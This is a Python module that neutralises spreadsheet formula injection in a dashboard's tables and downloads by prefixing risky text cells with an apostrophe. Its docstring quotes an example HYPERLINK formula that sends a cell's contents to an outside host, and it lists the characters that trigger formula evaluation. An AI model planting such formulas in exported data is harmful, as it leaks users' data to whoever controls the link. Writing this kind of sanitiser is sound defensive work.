"""Cells that a spreadsheet would run as a formula, made inert.

A webinar title, a file name or a country as someone typed it can begin with `=`, `+`, `-`, `@`,
a tab or a carriage return; Excel and LibreOffice then read the cell as a formula
(`=HYPERLINK("http://…?leak="&B2, …)`). Every table this dashboard shows or lets a user
download passes through `formula_safe`, so that the downloads (Streamlit's own included) carry
such text as text: a leading apostrophe, as OWASP's CSV-injection guidance recommends.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """The value, with a leading apostrophe if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def formula_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the table whose text cells (and column names) are inert; numbers stay numbers."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(inert)
    out.columns = [inert(c) for c in out.columns]
    return out
